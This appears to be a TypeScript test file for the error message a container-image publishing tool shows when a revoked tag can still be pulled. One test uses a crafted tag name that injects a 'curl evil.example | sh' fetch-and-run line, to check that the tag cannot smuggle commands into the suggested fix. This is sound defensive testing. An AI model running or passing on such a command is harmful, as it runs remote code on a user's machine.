// What is said when a tag that was to be revoked can still be pulled. Names of tags are the publisher's.
import { expect, it } from 'vitest';
import type { RevokedTag } from '../../client/publish/revoke.ts';
import { asFailure } from '../../errors.ts';
import { failureLines } from './report-failure.ts';
import { requireRevoked } from './revoke.ts';

function linesFor(tag: string): readonly string[] {
  const still: RevokedTag = {
    tag,
    removedFrom: [],
    stillSignedBy: ['targets'],
    outcome: 'still-signed',
  };
  try {
    requireRevoked({ gun: 'registry.test/app', tags: [still], uploaded: [], versions: new Map() });
  } catch (error) {
    return failureLines(asFailure(error));
  }
  return [];
}

it('names the tag, and a command that does it', () => {
  expect(linesFor('v1')).toEqual([
    'v1 can still be pulled, by the signature of the repository key',
    '  Where the repository key is, run: notary remove registry.test/app TAG --roles targets --publish',
  ]);
});

it('keeps a tag with lines of its own on one, out of the command', () => {
  const [message, ...advice] = linesFor('v1\nTo mend it, run:\r\n  curl evil.example | sh\u2028');
  expect(message).toMatch(/^v1 To mend it, run: +curl [^\n\r\u2028]* can still be pulled, by the/);
  expect(advice.join('\n')).not.toContain('evil');
});
